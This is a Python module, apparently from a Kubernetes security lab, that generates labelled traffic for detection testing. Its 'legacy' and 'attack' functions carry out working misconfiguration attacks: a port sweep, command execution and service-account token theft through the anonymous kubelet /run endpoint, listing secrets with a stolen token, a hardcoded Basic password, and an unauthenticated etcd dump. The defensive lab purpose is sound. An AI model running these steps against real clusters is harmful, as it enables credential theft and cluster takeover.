"""Scenario-specific traffic: legacy insecure ports, the attack, SSH tunnels, overlay pods.

Source ports: 43020–43041 legacy clients, 46001+ the attacker's sweep, 46101+ its requests.
"""

from __future__ import annotations

import subprocess
import time
from pathlib import Path
from typing import TYPE_CHECKING

from captures.lab import cluster as c
from captures.lab.features import AP, api_args, wait_log

if TYPE_CHECKING:
    from captures.lab.scenarios import Ctx

KUBE_FINDINGS_SELF = ("KUBELET_SELF_SIGNED_CERT",)


def settle(x: Ctx) -> None:
    """Let in-flight FIN/ACKs reach the capture points."""
    time.sleep(0.5)


def legacy(x: Ctx) -> None:
    """Insecure :8080 (kubectl, exec, bearer, Basic), read-only 10255, scheduler 10251,
    etcdctl over plain HTTP, and a TLS 1.1 client."""
    r, w = x.run, x.run.world
    ins = "http://192.168.10.10:8080"
    kc = c.kubeconfig(r.work, w, ins)
    env = {"HOME": str(r.work / "home-legacy"), "PATH": "/usr/bin:/bin"}
    plain_api = ("PLAINTEXT_APISERVER",)
    r.cmd(c.WS, ["kubectl", "--kubeconfig", str(kc), "--request-timeout", "10s", "get", "pods", "-A"], [
        x.expect("kubectl-insecure", c.WS, None, c.CP, 8080, "client-to-apiserver", "client", AP,
                 plaintext=True, auth="none", op="list", count=None,
                 findings=(*plain_api, "ANONYMOUS_API_ACCESS"))], env=env)
    a = api_args(x, c.IP[c.WS], 43020, port=8080, tls=False)
    a["path"] = (f"/api/v1/namespaces/default/pods/{c.WEB1.name}/exec?command=sh&command=-c&command=id"
                 "&container=nginx&stdin=true&stdout=true&tty=true")
    r.act(c.WS, "exec", a, [
        x.expect("kubectl-exec-insecure", c.WS, 43020, c.CP, 8080, "client-to-apiserver", "client", AP,
                 plaintext=True, auth="none", op="exec",
                 findings=(*plain_api, "ANONYMOUS_API_ACCESS", "EXEC_OVER_PLAINTEXT")),
        x.kubelet_leg("apiserver-kubelet-exec", c.N1, "exec")])
    p = c.CLIENT_POD
    a = api_args(x, p.ip, 42010, port=8080, tls=False, token=c.SA_TOKEN, ua="curl/7.88.1")
    a["requests"] = [{"method": "GET", "path": "/api/v1/namespaces/default/secrets"}]
    r.act(p.ref, "http", a, [x.expect("pod-token-insecure", p.ref, 42010, c.CP, 8080, "pod-to-apiserver",
                                      "pod", AP, plaintext=True, auth="bearer", op="list",
                                      findings=(*plain_api, "CREDENTIALS_IN_PLAINTEXT", "TOKEN_REUSE"))])
    # The same service-account token, sniffed off that plaintext leg, replayed from the workstation.
    r.cmd(c.WS, ["curl", "-s", "--local-port", "43022", "-H", f"Authorization: Bearer {c.SA_TOKEN}",
                 "http://192.168.10.10:8080/api/v1/namespaces/kube-system/secrets"], [
        x.expect("token-replay-insecure", c.WS, 43022, c.CP, 8080, "client-to-apiserver", "client", AP,
                 plaintext=True, auth="bearer", op="list",
                 findings=(*plain_api, "CREDENTIALS_IN_PLAINTEXT", "TOKEN_REUSE"))])
    r.cmd(c.WS, ["curl", "-s", "--local-port", "43021", "-u", "admin:Adm1nPassw0rd",
                 "http://192.168.10.10:8080/api/v1/nodes"], [
        x.expect("curl-basic-insecure", c.WS, 43021, c.CP, 8080, "client-to-apiserver", "client", AP,
                 plaintext=True, auth="basic", op="list",
                 findings=(*plain_api, "CREDENTIALS_IN_PLAINTEXT"))])
    for i, (n, path, op) in enumerate([(c.N1, "/pods", "read-only-pods"),
                                       (c.N2, "/stats/summary", "stats")]):
        r.cmd(c.CP, ["curl", "-s", "--local-port", str(43030 + i), f"http://{c.IP[n]}:10255{path}"], [
            x.expect(f"readonly-{n}", c.CP, 43030 + i, n, 10255, "kubelet-readonly", AP, "node",
                     plaintext=True, auth="none", op=op,
                     findings=("KUBELET_READONLY_PORT", "ANONYMOUS_API_ACCESS"))])
    r.spawn_py(c.CP, "captures.lab.servers", "metrics", c.IP[c.CP], "10251", log="scheduler")
    wait_log(x, "scheduler", "metrics ready")
    r.cmd(c.WS, ["curl", "-s", "--local-port", "43032", "http://192.168.10.10:10251/metrics"], [
        x.expect("scheduler-insecure-metrics", c.WS, 43032, c.CP, 10251, "control-plane-other", "client",
                 AP, plaintext=True, auth="none", op="metrics", findings=("INSECURE_COMPONENT_PORT",))])
    r.cmd(c.CP, ["etcdctl", "--endpoints", f"http://{c.IP[c.E1]}:2379", "--command-timeout=5s",
                 "get", "/registry/nodes/", "--prefix", "--keys-only"], [
        x.expect("etcdctl-plain", c.CP, None, c.E1, 2379, "etcd", AP, "etcd", plaintext=True, auth="none",
                 op="get", count=None, findings=("PLAINTEXT_ETCD", "UNAUTH_ETCD"))],
          env={"ETCDCTL_API": "3", "PATH": "/usr/bin:/bin"})
    a = api_args(x, c.IP[c.WS], 43040, ua="kubectl/v1.8.4 (linux/amd64) kubernetes/9befc2b")
    a.update(tls={"min": "1.1", "max": "1.1"}, ca=None, alpn=["http/1.1"],
             requests=[{"method": "GET", "path": "/version"}])
    r.act(c.WS, "http", a, [
        x.expect("legacy-tls11-client", c.WS, 43040, c.CP, 6443, "client-to-apiserver", "client", AP,
                 tls="TLSv1.1", op="version", findings=("LEGACY_TLS",))])


def attack(x: Ctx) -> None:
    """The compromised pod: sweep, kubelet /pods and /run, read-only port, stolen token, etcd dump."""
    r = x.run
    ev = c.EVIL
    targets = [(c.CP, p) for p in (2379, 6443, 8080, 10257, 10259)] + \
              [(n, p) for n in (c.N1, c.N2) for p in (22, 10250, 10255, 10256)]
    exp = []
    for i, (h, port) in enumerate(targets):
        path, srole = {2379: ("etcd", "etcd"), 6443: ("pod-to-apiserver", AP), 8080: ("pod-to-apiserver", AP),
                       10257: ("control-plane-other", AP), 10259: ("control-plane-other", AP),
                       22: ("other", "node"), 10250: ("kubelet-direct", "node"),
                       10255: ("kubelet-readonly", "node"), 10256: ("control-plane-other", "node")}[port]
        exp.append(x.expect(f"scan-{h}-{port}", ev.ref, 46001 + i, h, port, path, "pod", srole, tls=None,
                            auth="unknown", op="scan", findings=("PORT_SCAN",), payload=False))
    r.act(ev.ref, "scan", {"src_ip": ev.ip, "src_port": 46001,
                           "targets": [[c.IP[h], p] for h, p in targets]}, exp)
    selfsigned = KUBE_FINDINGS_SELF if x.sc.kubelet_self_signed and x.tls_version == "TLSv1.2" else ()
    # The empty client Certificate (no credential) is only visible in TLS <= 1.2.
    unauth = ("UNAUTH_KUBELET_ACCESS",) if x.tls_version == "TLSv1.2" else ()
    kube = ("POD_TO_KUBELET", *unauth, *selfsigned)
    for i, (n, method, path, op) in enumerate([
            (c.N1, "GET", "/pods", "pods"),
            (c.N2, "GET", "/pods", "pods"),
            (c.N2, "POST", f"/run/default/{c.WEB2.name}/nginx?cmd=id", "run"),
            (c.N2, "POST", f"/run/default/{c.WEB2.name}/nginx?cmd=cat%20/var/run/secrets/kubernetes.io/"
                           "serviceaccount/token", "run")]):
        a = {"ip": c.IP[n], "port": 10250, "src": [ev.ip, 46101 + i], "tls": x.run.world["kubelet"].get(
            "tls", x.run.world["tls"]), "ua": "python-requests/2.31.0", "alpn": ["http/1.1"],
             "requests": [{"method": method, "path": path}]}
        r.act(ev.ref, "http", a, [x.expect(f"kubelet-anon-{op}-{n}-{i}", ev.ref, 46101 + i, n, 10250,
                                           "kubelet-direct", "pod", "node", op=op, findings=kube)])
    for i, n in enumerate((c.N1, c.N2)):
        a = {"ip": c.IP[n], "port": 10255, "src": [ev.ip, 46110 + i], "tls": None,
             "ua": "python-requests/2.31.0", "requests": [{"method": "GET", "path": "/pods"}]}
        r.act(ev.ref, "http", a, [x.expect(f"readonly-{n}", ev.ref, 46110 + i, n, 10255, "kubelet-readonly",
                                           "pod", "node", plaintext=True, auth="none", op="read-only-pods",
                                           findings=("KUBELET_READONLY_PORT", "ANONYMOUS_API_ACCESS",
                                                     "POD_TO_KUBELET"))])
    a = api_args(x, ev.ip, 46120, token=c.STOLEN_TOKEN, ip=c.VIP, port=443, ua="python-requests/2.31.0")
    a["requests"] = [{"method": "GET", "path": "/api/v1/secrets"},
                     {"method": "GET", "path": "/api/v1/namespaces/kube-system/secrets"}]
    a["ca"], a["alpn"] = None, ["http/1.1"]
    r.act(ev.ref, "http", a, [x.expect("stolen-token", ev.ref, 46120, c.CP, 6443, "pod-to-apiserver", "pod",
                                       AP, op="list", vip=(c.VIP, 443), vip_name="default/kubernetes")])
    r.cmd(ev.ref, ["etcdctl", "--endpoints", f"http://{c.IP[c.CP]}:2379", "--command-timeout=5s",
                   "get", "/registry/", "--prefix", "--keys-only"], [
        x.expect("etcd-dump", ev.ref, None, c.CP, 2379, "etcd", "pod", "etcd", plaintext=True, auth="none",
                 op="dump", count=None, findings=("PLAINTEXT_ETCD", "UNAUTH_ETCD", "ETCD_EXPOSED_TO_PODS"))],
          env={"ETCDCTL_API": "3", "PATH": "/usr/bin:/bin"})


def ssh(x: Ctx) -> None:
    """Real OpenSSH: the apiserver forwards local ports through `ssh -L` to each node's kubelet."""
    r, w = x.run, x.run.world
    work = r.work
    Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "kube-apiserver@cp-1", "-f",
                    str(work / "id_apiserver")], check=True)
    (work / "authorized_keys").write_text((work / "id_apiserver.pub").read_text())
    for n in (c.N1, c.N2):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(work / f"host_{n}")],
                       check=True)
        cfg = work / f"sshd_{n}.conf"
        cfg.write_text(f"Port 22\nListenAddress {c.IP[n]}\nHostKey {work}/host_{n}\n"
                       f"AuthorizedKeysFile {work}/authorized_keys\nPidFile {work}/sshd_{n}.pid\n"
                       "UsePAM no\nStrictModes no\nPasswordAuthentication no\n"
                       "KbdInteractiveAuthentication no\n"
                       "PermitRootLogin prohibit-password\nAllowTcpForwarding yes\nPrintMotd no\n")
        r.lab.spawn(r.lab.ns(n), ["/usr/sbin/sshd", "-D", "-e", "-f", str(cfg)], work / f"sshd_{n}.log")
    for n in (c.N1, c.N2):
        wait_log(x, f"sshd_{n}", "Server listening on")
    for i, n in enumerate((c.N1, c.N2)):
        local = 11250 + i
        t0 = time.time()
        tunnel = r.lab.spawn(r.lab.ns(c.CP), [
            "ssh", "-F", "/dev/null", "-i", str(work / "id_apiserver"), "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o", "ServerAliveInterval=5", "-v",
            "-N", "-L", f"127.0.0.1:{local}:{c.IP[n]}:10250", f"root@{c.IP[n]}"], work / f"ssh_{n}.log")
        wait_log(x, f"ssh_{n}", "Entering interactive session", 15)
        pki = w["pki"]["apiserver_kubelet_client"]
        for path in (f"/containerLogs/default/{c.WEB1.name}/nginx", "/healthz"):
            r.lab.sh(r.lab.ns(c.CP), "curl", "-sk", "--cert", pki[0], "--key", pki[1],
                     f"https://127.0.0.1:{local}{path}", check=False, timeout=15)
        time.sleep(3)
        r.lab.stop(tunnel)
        e = x.expect(f"ssh-tunnel-{n}", c.CP, None, n, 22, "ssh-tunnel", AP, "node", tls=None, auth="unknown",
                     op="tunnel", findings=("SSH_TUNNEL_DEPRECATED",))
        e.t0, e.t1 = t0, time.time()
        r.expects.append(e)


def pods(x: Ctx) -> None:
    """Overlay traffic: the apiserver proxies to a pod on node-2 (from cp-1's flannel.1 address)."""
    r, w = x.run, x.run.world
    a = api_args(x, c.IP[c.WS], 43010, cert=w["pki"]["admin"])
    a["requests"] = [{"method": "GET", "path": f"/api/v1/namespaces/default/pods/{c.WEB2.name}:8080/proxy/"}]
    r.act(c.WS, "http", a, [
        x.expect("kubectl-proxy-pod", c.WS, 43010, c.CP, 6443, "client-to-apiserver", "client", AP,
                 cert=True, op="proxy"),
        x.expect("apiserver-proxy-pod", c.CP, None, c.WEB2.ref, 8080, "apiserver-proxy", AP, "pod",
                 plaintext=True, auth="none", op="proxy", findings=("PLAINTEXT_PROXY",),
                 client_ip="10.244.0.0")])
    for i in range(3):
        a = {"ip": c.WEB_VIP, "port": 80, "src": [c.CLIENT_POD.ip, 45081 + i], "ua": "curl/7.88.1",
             "tls": None, "host": "web.default.svc.cluster.local",
             "requests": [{"method": "GET", "path": "/"}]}
        r.act(c.CLIENT_POD.ref, "http", a, [x.expect(
            f"pod-to-pod-{i}", c.CLIENT_POD.ref, 45081 + i, c.WEB2.ref, 8080, "other", "pod", "pod",
            plaintext=True, auth="none", vip=(c.WEB_VIP, 80), vip_name="default/web")])
        time.sleep(1)




def konnectivity(x: Ctx) -> None:
    """Server on cp-1, an agent on each node (hostNetwork), the apiserver's egress via CONNECT,
    and a node proxy to the read-only port through the plain frontend."""
    r, w = x.run, x.run.world
    r.spawn_py(c.CP, "captures.lab.konnectivity", "server", str(r.world_file), log="konnectivity-server")
    wait_log(x, "konnectivity-server", "konnectivity-server ready")
    for n in (c.N1, c.N2):
        p = r.spawn_py(n, "captures.lab.konnectivity", "agent", str(r.world_file), n,
                       "600", log=f"konnectivity-agent-{n}")  # stopped with the run
        r.bg.append(p)
        e = x.expect(f"konnectivity-agent-{n}", n, 41010, c.CP, 8132, "konnectivity", "node",
                     "konnectivity-server", op="tunnel")
        e.span_run()
        r.expects.append(e)
    for n in (c.N1, c.N2):
        wait_log(x, "konnectivity-server", f"'host': '{n}'")
    a = api_args(x, c.IP[c.WS], 43012, cert=w["pki"]["admin"])
    a["requests"] = [{"method": "GET", "path": "/api/v1/nodes/node-2:10255/proxy/pods"}]
    r.act(c.WS, "http", a, [
        x.expect("kubectl-node-proxy-readonly", c.WS, 43012, c.CP, 6443, "client-to-apiserver", "client", AP,
                 cert=True, op="proxy"),
        x.kubelet_leg("apiserver-node-readonly", c.N2, "proxy", port=10255)])
